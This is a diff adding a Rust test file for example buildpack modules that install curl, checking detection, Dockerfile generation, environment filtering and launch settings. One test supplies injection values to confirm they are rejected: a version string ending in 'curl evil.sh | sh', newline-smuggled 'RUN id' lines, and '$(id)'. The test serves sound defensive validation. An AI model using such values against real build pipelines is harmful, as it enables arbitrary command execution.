@@ -1,0 +1,200 @@
+//! The example modules run exactly as the lifecycle runs them (positional args, `CNB_*` env,
+//! filtered environment, the app as working directory), through the harness.
+
+use cnb_harness::{Module, ModuleRun, TargetEnv, workspace_root};
+use std::path::PathBuf;
+// Dependencies of the harness library, not used directly by this test crate.
+use tempfile as _;
+use toml as _;
+
+fn app(name: &str) -> PathBuf {
+    workspace_root().join("tests/fixtures/apps").join(name)
+}
+
+fn curl_extension() -> Module {
+    Module::package("tests/modules/curl-extension")
+}
+
+fn curl_buildpack() -> Module {
+    Module::package("tests/modules/curl-buildpack")
+}
+
+const CURL_PLAN: &str =
+    "[[entries]]\nname = \"curl\"\n[entries.metadata]\nversion = \"8.5.0-2\"\nlaunch = true\n";
+
+#[test]
+fn packaged_module_binaries_are_static() {
+    for module in [curl_extension(), curl_buildpack()] {
+        let executable = module.executable(module.kind.main_executable_name());
+        packager::elf::check_static(&executable)
+            .unwrap_or_else(|error| panic!("{}: {error}", executable.display()));
+        let link = std::fs::read_link(module.dir.join("bin/detect")).unwrap();
+        assert_eq!(link, PathBuf::from(executable.file_name().unwrap()));
+    }
+}
+
+#[test]
+fn extension_detect_provides_curl_with_an_alternative() {
+    let outcome = ModuleRun::new(&curl_extension(), app("empty-app")).detect();
+    assert_eq!(outcome.process.exit_code, 0, "{}", outcome.process.stderr);
+    let plan = outcome.plan.expect("a plan");
+    assert_eq!(plan["provides"][0]["name"].as_str(), Some("curl"));
+    let alternative = plan["or"][0]["provides"].as_array().unwrap();
+    assert_eq!(alternative.len(), 2);
+    assert!(!plan.contains_key("requires"));
+}
+
+#[test]
+fn extension_generate_writes_the_dockerfiles_and_extend_config() {
+    let outcome = ModuleRun::new(&curl_extension(), app("empty-app"))
+        .buildpack_plan(CURL_PLAN)
+        .platform_env("BP_CURL_RUN_IMAGE", "localhost/curl-run:8")
+        .generate();
+    assert_eq!(outcome.process.exit_code, 0, "{}", outcome.process.stderr);
+    assert_eq!(
+        outcome.files,
+        ["build.Dockerfile", "extend-config.toml", "run.Dockerfile"]
+    );
+    let build = outcome.build_dockerfile.unwrap();
+    assert!(build.starts_with("ARG base_image\nFROM ${base_image}\n"));
+    assert!(build.contains("curl=8.5.0-2"));
+    assert!(build.ends_with("USER ${user_id}:${group_id}\n"));
+    assert_eq!(
+        outcome.run_dockerfile.as_deref(),
+        Some("FROM localhost/curl-run:8\n")
+    );
+    assert_eq!(
+        outcome.extend_config.unwrap()["run"]["args"][0]["value"].as_str(),
+        Some("noninteractive")
+    );
+    assert!(
+        outcome
+            .process
+            .stdout
+            .starts_with("Example curl extension 0.1.0\n  Installing curl 8.5.0-2"),
+        "{}",
+        outcome.process.stdout
+    );
+}
+
+#[test]
+fn extension_generate_rejects_hostile_values_and_writes_nothing() {
+    for (plan_version, run_image, expected) in [
+        (
+            "8.5.0; curl evil.sh | sh",
+            "",
+            "not a Debian package version",
+        ),
+        ("8.5.0\\nRUN id", "", "not a Debian package version"),
+        (
+            "8.5.0",
+            "x\nRUN id",
+            "BP_CURL_RUN_IMAGE: \"x\\nRUN id\" is not an image reference",
+        ),
+        ("8.5.0", "ubuntu $(id)", "BP_CURL_RUN_IMAGE"),
+    ] {
+        let plan = format!(
+            "[[entries]]\nname = \"curl\"\n[entries.metadata]\nversion = \"{plan_version}\"\n"
+        );
+        let mut run = ModuleRun::new(&curl_extension(), app("empty-app")).buildpack_plan(&plan);
+        if !run_image.is_empty() {
+            run = run.platform_env("BP_CURL_RUN_IMAGE", run_image);
+        }
+        let outcome = run.generate();
+        assert_eq!(
+            outcome.process.exit_code, 1,
+            "{plan_version:?} {run_image:?}"
+        );
+        assert!(outcome.files.is_empty(), "{:?}", outcome.files);
+        assert!(
+            outcome.process.stderr.starts_with("ERROR: ")
+                && outcome.process.stderr.contains(expected),
+            "{}",
+            outcome.process.stderr
+        );
+    }
+}
+
+#[test]
+fn extension_generate_errors_name_a_malformed_buildpack_plan() {
+    let outcome = ModuleRun::new(&curl_extension(), app("empty-app"))
+        .buildpack_plan("[[entries]]\nname = 1\n")
+        .generate();
+    assert_eq!(outcome.process.exit_code, 1);
+    assert!(
+        outcome.process.stderr.contains("bp-plan.toml"),
+        "{}",
+        outcome.process.stderr
+    );
+    assert!(outcome.files.is_empty());
+}
+
+#[test]
+fn the_environment_is_filtered_as_the_lifecycle_filters_it() {
+    // CNB_STACK_ID is allow-listed; anything else from the lifecycle's environment is not. A
+    // platform env file reaches the process (the extension does not set clear-env).
+    let run = ModuleRun::new(&curl_extension(), app("empty-app"))
+        .lifecycle_env("CNB_STACK_ID", "io.buildpacks.stacks.ubi8")
+        .lifecycle_env("SECRET_FROM_THE_BUILD_HOST", "x")
+        .platform_env("BP_CURL_RUN_IMAGE", "localhost/a:1")
+        .target(TargetEnv::linux_amd64("rhel", "8.10"))
+        .buildpack_plan(CURL_PLAN);
+    assert_eq!(run.generate().process.exit_code, 0);
+    let env = run.environment_for_test();
+    assert_eq!(
+        env.get("CNB_STACK_ID").map(String::as_str),
+        Some("io.buildpacks.stacks.ubi8")
+    );
+    assert!(!env.contains_key("SECRET_FROM_THE_BUILD_HOST"));
+    assert_eq!(
+        env.get("BP_CURL_RUN_IMAGE").map(String::as_str),
+        Some("localhost/a:1")
+    );
+    assert_eq!(
+        env.get("CNB_TARGET_DISTRO_NAME").map(String::as_str),
+        Some("rhel")
+    );
+}
+
+#[test]
+fn buildpack_detect_requires_the_apps_curl_version() {
+    let outcome = ModuleRun::new(&curl_buildpack(), app("curl-app")).detect();
+    assert_eq!(outcome.process.exit_code, 0, "{}", outcome.process.stderr);
+    let plan = outcome.plan.expect("a plan");
+    assert_eq!(plan["requires"][0]["name"].as_str(), Some("curl"));
+    assert_eq!(
+        plan["requires"][0]["metadata"]["version"].as_str(),
+        Some("7.88.1-10+deb12u5")
+    );
+    assert!(!plan.contains_key("provides"));
+}
+
+#[test]
+fn buildpack_build_sets_the_launch_process() {
+    let outcome = ModuleRun::new(&curl_buildpack(), app("curl-app"))
+        .buildpack_plan(CURL_PLAN)
+        .build();
+    assert_eq!(outcome.process.exit_code, 0, "{}", outcome.process.stderr);
+    let launch = outcome.launch.expect("launch.toml");
+    assert_eq!(
+        launch["processes"][0]["type"].as_str(),
+        Some("curl-version")
+    );
+    assert_eq!(launch["processes"][0]["command"][0].as_str(), Some("curl"));
+    assert!(outcome.process.stdout.contains("  Found curl at "));
+}
+
+#[test]
+fn buildpack_build_fails_clearly_without_curl() {
+    let outcome = ModuleRun::new(&curl_buildpack(), app("curl-app"))
+        .buildpack_plan(CURL_PLAN)
+        .lifecycle_env("PATH", "/nonexistent")
+        .build();
+    assert_ne!(outcome.process.exit_code, 0);
+    assert!(outcome.launch.is_none());
+    assert!(
+        outcome.process.stderr.to_lowercase().contains("curl"),
+        "{}",
+        outcome.process.stderr
+    );
+}
